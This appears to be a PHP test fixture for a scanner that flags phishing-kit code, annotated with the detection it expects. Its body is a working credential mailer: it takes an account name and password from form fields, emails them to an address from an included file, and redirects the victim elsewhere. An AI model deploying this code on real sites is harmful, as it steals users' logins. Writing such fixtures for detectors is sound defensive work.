<?php return; // want: suspicious credential_mailer php.mail.password
/* Fields without telling names, but the mail says what they are. */
include 'to.php';
$m = "Account: " . $_POST['a'] . "\n";
$m .= "Password: " . $_POST['b'] . "\n";
mail($to, 'news', $m);
header('Location: https://www.example.com/');
